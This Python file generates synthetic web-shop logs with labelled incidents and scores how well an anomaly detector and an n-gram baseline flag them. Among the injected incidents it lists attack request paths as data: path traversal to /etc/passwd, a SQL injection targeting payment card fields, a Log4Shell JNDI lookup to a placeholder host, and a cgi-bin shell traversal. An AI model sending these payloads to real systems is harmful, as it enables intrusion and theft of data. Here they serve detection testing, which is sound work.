"""Three days of an invented shop's log, the third with incidents, to try `itera watch` on.

    python -m tools.logs write FOLDER [FIRST]
    python -m tools.logs measure FOLDER MODEL...

`write` makes day1.log (to train on), day2.log (to calibrate on), day3.log (to watch) and
incidents.tsv (number and kind of each line of day3.log that is none of a normal day). FIRST is the
date of the first day. `measure` prints how well incidents are told from normal lines of day3.log:
by the excess of `itera watch` and by the bits per byte of each model (GGUF file), and by the bits
per byte of an n-gram that is counted on day1.log. Columns: the AUC, and the share of lines above
the threshold that day2.log gives; in the first row, of normal lines, which are false alarms.
"""

from __future__ import annotations

import sys
from collections.abc import Callable, Iterator, Sequence
from datetime import datetime, timedelta
from pathlib import Path
from random import Random

import numpy as np

from itera_lite.engine import Model
from itera_lite.engine.find import load_model
from itera_lite.engine.watch import Surprise
from itera_lite.evaluate.ngram import ByteNgram
from itera_lite.terminal import table

LINES = 40_000  # a day
INCIDENTS = 60  # of each kind
FALSE_ALARMS = 0.001
FIRST = "2026-11-24"
ORDER = 8  # of the n-gram, in bytes

AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/19.1 Mobile/15E148 Safari/604.1",
    "shop-monitor/2.4",
)
TEMPLATES = ("receipt", "shipped", "reset-password", "newsletter")
QUERIES = ("select_order", "select_user", "insert_cart", "update_stock", "select_product")
ATTACKS = (
    "/product/../../../../etc/passwd",
    "/search?q=1'+UNION+SELECT+card,cvv+FROM+payments--",
    "/wp-login.php",
    "/?x=${jndi:ldap://198.51.100.66:1389/a}",
    "/cgi-bin/.%2e/.%2e/bin/sh",
)
NEW = (
    "{time} web-2 kernel: Out of memory: Killed process {n} (java) total-vm:8123456kB",
    "{time} ERROR shop.db connection to primary lost after {ms} ms, 3 replicas are stale",
    "\tat com.example.shop.cart.CartService.add(CartService.java:{n})",
    "{time} FATAL shop.pay certificate of the bank expired, {n} payments refused",
    "{time} WARN  shop.stock negative stock -{n} for sku=AX-{n}, order kept",
    "{time} web-2 sshd[{n}]: Accepted password for root from 198.51.100.66 port {n} ssh2",
    "{time} ERROR shop.mail spool is full: No space left on device",
)

Line = Callable[[Random, datetime], str]


def _stamp(time: datetime) -> str:
    return time.isoformat(timespec="milliseconds") + "Z"


def _ip(source: Random) -> str:
    return f"203.0.113.{source.randrange(256)}"


def _ms(source: Random) -> int:
    return min(int(source.lognormvariate(3.0, 0.8)) + 1, 900)


def _access(source: Random, time: datetime, path: str = "", status: int = 0) -> str:
    product = f"/product/{source.randrange(1000, 6000)}"
    known = source.choice(("/", product, product, "/cart", "/search?q=lamp", "/static/app.js"))
    code = status or source.choices((200, 304, 302, 404), (90, 6, 3, 1))[0]
    method = "POST" if known == "/cart" and not path else "GET"
    return (
        f"{_ip(source)} - - [{time:%d/%b/%Y:%H:%M:%S} +0000] "
        f'"{method} {path or known} HTTP/1.1" {code} {source.randrange(200, 60_000)} "-" '
        f'"{source.choices(AGENTS, (4, 6, 5, 1))[0]}"'
    )


def _cart(source: Random, time: datetime, user: str = "") -> str:
    return (
        f"{_stamp(time)} INFO  shop.cart [{source.getrandbits(32):08x}] "
        f"user={user or source.randrange(10_000, 60_000)} added "
        f"sku=AX-{source.randrange(1000, 6000)} "
        f"qty={source.choices((1, 2, 3, 4), (20, 6, 2, 1))[0]} total={source.uniform(4, 250):.2f} "
        f"in {_ms(source)} ms"
    )


def _query(source: Random, time: datetime, ms: int = 0) -> str:
    return (
        f"{_stamp(time)} DEBUG shop.db [{source.getrandbits(32):08x}] "
        f"query={source.choice(QUERIES)} rows={source.randrange(60)} in {ms or _ms(source)} ms"
    )


def _mail(source: Random, time: datetime) -> str:
    return (
        f"{_stamp(time)} INFO  shop.mail sent template={source.choice(TEMPLATES)} "
        f"to=user{source.randrange(10_000, 60_000)}@example.com in {_ms(source)} ms"
    )


def _login(source: Random, time: datetime) -> str:
    user = source.randrange(10_000, 60_000)
    if source.random() < 0.08:
        return f"{_stamp(time)} WARN  shop.auth user={user} wrong password from {_ip(source)}"
    return f"{_stamp(time)} INFO  shop.auth user={user} logged in from {_ip(source)}"


def _collector(source: Random, time: datetime) -> str:
    before = source.randrange(600, 1500)
    return (
        f"{_stamp(time)} INFO  jvm.gc pause young {source.uniform(2, 40):.1f} ms "
        f"heap {before}M->{before // source.randrange(2, 5)}M (2048M)"
    )


def _system(source: Random, time: datetime) -> str:
    session = source.randrange(100, 5000)
    return f"{_stamp(time)} web-2 systemd[1]: Started session {session} of user deploy."


def _rare(source: Random, time: datetime) -> str:
    """What a normal day has a few times."""
    return f"{_stamp(time)} " + source.choice(
        (
            f"INFO  shop.tls certificate renewed, valid for {source.randrange(80, 90)} days",
            f"INFO  shop.report daily report written, {source.randrange(900, 2000)} orders",
            f"WARN  shop.db query={source.choice(QUERIES)} took {source.randrange(900, 1400)} ms",
            f"INFO  web-2 logrotate: rotating /var/log/shop.{source.randrange(1, 8)}",
        )
    )


NORMAL: tuple[tuple[Line, float], ...] = (
    (_access, 40),
    (_query, 25),
    (_cart, 12),
    (_login, 8),
    (_mail, 6),
    (_collector, 5),
    (_system, 3.9),
    (_rare, 0.1),
)


def normal_line(source: Random, time: datetime) -> str:
    """A line of a normal day."""
    (line,) = source.choices([line for line, _ in NORMAL], [weight for _, weight in NORMAL])
    return line(source, time)


def _garbled(source: Random, time: datetime) -> str:
    text = list(normal_line(source, time))
    for place in source.sample(range(len(text)), 3):
        text[place] = chr(source.randrange(33, 127))
    return "".join(text)


def _truncated(source: Random, time: datetime) -> str:
    text = normal_line(source, time)
    return text[: source.randrange(len(text) // 3, len(text) * 4 // 5)]


def _new(source: Random, time: datetime) -> str:
    values = {"time": _stamp(time), "n": source.randrange(100, 9000), "ms": _ms(source)}
    return source.choice(NEW).format(**values)


KINDS: dict[str, Line] = {
    "a new message": _new,
    "an attack's path": lambda r, t: _access(r, t, path=r.choice(ATTACKS), status=404),
    "a status of a failure": lambda r, t: _access(r, t, status=r.choice((500, 502, 503))),
    "user=null": lambda r, t: _cart(r, t, user="null"),
    "a query of 30 s": lambda r, t: _query(r, t, ms=r.randrange(20_000, 40_000)),
    "a truncated line": _truncated,
    "three wrong characters": _garbled,
}


def day(seed: int, begin: datetime, incidents: int = 0) -> Iterator[tuple[str, str]]:
    """The lines of a day, in their order, each with its kind of incident; empty for none."""
    source = Random(seed)
    kinds = [""] * LINES + [kind for kind in KINDS for _ in range(incidents)]
    source.shuffle(kinds)
    times = sorted(begin + timedelta(days=source.random()) for _ in kinds)
    for time, kind in zip(times, kinds, strict=True):
        yield KINDS.get(kind, normal_line)(source, time), kind


def write(folder: Path, first: str = FIRST) -> None:
    """Write the three days and the list of incidents."""
    folder.mkdir(parents=True, exist_ok=True)
    begin = datetime.fromisoformat(first)
    for number in (1, 2, 3):
        lines = list(
            day(number, begin + timedelta(days=number - 1), INCIDENTS if number == 3 else 0)
        )
        (folder / f"day{number}.log").write_text("".join(f"{line}\n" for line, _ in lines))
    (folder / "incidents.tsv").write_text(
        "".join(f"{number}\t{kind}\n" for number, (_, kind) in enumerate(lines, 1) if kind)
    )


def auc(normal: np.ndarray, unusual: np.ndarray) -> float:
    """Probability that an unusual line scores above a normal one; half for equal scores."""
    ordered = np.sort(normal)
    below = np.searchsorted(ordered, unusual, "left") + np.searchsorted(ordered, unusual, "right")
    return float(below.mean() / 2 / len(ordered))


def model_scores(model: Model, lines: Sequence[bytes]) -> tuple[np.ndarray, np.ndarray]:
    """The excess of each line in bits, and its bits per byte (N,)."""
    scores = Surprise(model).scores([line.decode() for line in lines])
    excesses = np.array([max(found) for _, found in scores])
    return excesses, np.array([score.bits_per_byte for score, _ in scores])


def ngram_scores(model: ByteNgram, lines: Sequence[bytes]) -> np.ndarray:
    """Bits per byte of each line (N,)."""
    sizes = np.array([len(line) for line in lines])
    starts = np.concatenate(([0], np.cumsum(sizes + 1)[:-1]))
    return np.add.reduceat(model.nats(lines), starts) / np.log(2) / sizes


def measure(folder: Path, models: Sequence[Path]) -> str:
    """A table: a row for each kind of incident, two columns for each model."""
    days = [(folder / f"day{n}.log").read_bytes().splitlines() for n in (1, 2, 3)]
    kind_of = dict(line.split("\t") for line in (folder / "incidents.tsv").read_text().splitlines())
    kinds = np.array([kind_of.get(str(number), "") for number in range(1, len(days[2]) + 1)])

    scored: dict[str, list[np.ndarray]] = {}  # the lines of the days 2 and 3, by each scorer
    for path in models:
        both = [model_scores(load_model(path), day) for day in days[1:]]
        scored[f"{path.stem}, excess"] = [excess for excess, _ in both]
        scored[f"{path.stem}, bits per byte"] = [bits for _, bits in both]
    ngram = ByteNgram(days[0], ORDER)
    scored[f"{ORDER}-gram, bits per byte"] = [ngram_scores(ngram, day) for day in days[1:]]

    header, columns = ["incident"], []
    for name, (calibration, scores) in scored.items():
        calibration.sort()
        above = int((len(calibration) + 1) * FALSE_ALARMS + 1e-9)
        threshold = calibration[len(calibration) - above]
        normal = scores[kinds == ""]
        groups = [kinds != "", *(kinds == kind for kind in KINDS)]
        aucs = ["", *(f"{auc(normal, scores[group]):.4f}" for group in groups)]
        found = [f"{np.mean(normal > threshold):.2%}"]
        found += [f"{np.mean(scores[group] > threshold):.1%}" for group in groups]
        header += [f"{name}: AUC", "found"]
        columns += [aucs, found]
    rows = ["none (false alarms)", "all", *KINDS]
    return table(header, zip(rows, *columns, strict=True))


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["write", folder, *first] if len(first) <= 1:
            write(Path(folder), *first)
        case ["measure", folder, *models]:
            print(measure(Path(folder), [Path(model) for model in models]))
        case _:
            sys.exit(__doc__)
